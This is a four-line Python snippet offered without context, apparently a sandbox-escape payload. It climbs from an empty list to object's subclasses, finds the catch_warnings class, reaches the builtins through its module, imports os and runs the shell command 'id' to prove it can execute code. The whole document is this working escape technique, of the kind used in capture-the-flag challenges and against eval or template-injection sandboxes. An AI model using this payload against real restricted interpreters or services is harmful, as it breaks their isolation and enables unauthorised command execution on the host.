x = [].__class__.__base__.__subclasses__()
for c in x:
    if c.__name__ == "catch_warnings":
        c()._module.__builtins__["__import__"]("os").system("id")